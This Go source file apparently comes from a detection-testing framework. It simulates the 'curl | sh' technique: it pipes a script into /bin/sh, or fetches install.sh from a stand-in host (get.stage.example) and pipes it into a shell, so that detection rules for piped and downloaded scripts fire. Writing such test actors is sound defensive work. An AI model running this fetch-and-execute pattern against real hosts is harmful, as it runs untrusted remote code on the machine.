// Command stdin-script gives a shell a script that never is a file: one of its
// own through a pipe, or one that it fetches, as "curl | sh" does. What the
// simulated internet hands out does nothing.
//
// Rule: execution/piped-script, and execution/runs-download of what it fetches.
package main

import (
	"bytes"
	"context"
	"errors"
	"net/http"
	"os"
	"os/exec"

	"github.com/detonaut/detonaut/actors/payload"
	"github.com/detonaut/detonaut/actors/stage"
	"github.com/detonaut/detonaut/actors/wire"
)

func main() { stage.Play(feed) }

func feed(ctx context.Context) error {
	switch os.Args[1] {
	case "own":
		script := append(payload.Text("stdin-script"), "echo fed\n"...)
		sh := shell(ctx)
		sh.Stdin = bytes.NewReader(script)
		payload.Tell("stdin", script)
		return sh.Run()
	case "fetched":
		return pipe(ctx)
	case "get":
		script, err := wire.Request(ctx, http.DefaultClient, http.MethodGet, "http://get.stage.example/install.sh", nil)
		if err != nil {
			return err
		}
		payload.Tell("stdin", script)
		_, err = os.Stdout.Write(script)
		return err
	default:
		return errors.New("usage: stdin-script own|fetched")
	}
}

// pipe runs itself, which fetches, and a shell at the other end of a pipe.
func pipe(ctx context.Context) error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	get, sh := exec.CommandContext(ctx, self, "get"), shell(ctx)
	get.Stderr = os.Stderr
	if sh.Stdin, err = get.StdoutPipe(); err != nil {
		return err
	}
	return errors.Join(get.Start(), sh.Run(), get.Wait())
}

func shell(ctx context.Context) *exec.Cmd {
	cmd := exec.CommandContext(ctx, "/bin/sh")
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	return cmd
}
